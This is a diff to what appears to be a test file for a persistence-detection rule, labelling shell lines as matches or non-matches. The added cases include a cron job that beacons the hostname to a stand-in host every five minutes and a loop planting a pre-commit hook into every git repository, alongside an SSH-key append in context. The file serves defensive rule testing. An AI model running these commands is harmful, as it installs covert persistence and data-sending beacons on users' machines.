@@ -8,3 +8,11 @@ echo "ssh-ed25519 AAAA x" >> ~/.ssh/authorized_keys
 echo 'export PATH=$PATH:~/bin' >> ~/.bashrc
 # ok: persistence-startup-command
 grep key ~/.ssh/authorized_keys
+# ruleid: persistence-startup-command
+*/5 * * * * curl -s "https://a.invalid/beat?id=$(hostname)" >/dev/null
+# ok: persistence-startup-command
+0 2 * * * /usr/local/bin/backup.sh
+# ruleid: persistence-startup-command
+find ~ -name ".git" -type d | while read folder; do
+  cp hooks/pre-commit "$folder/hooks/"
+done
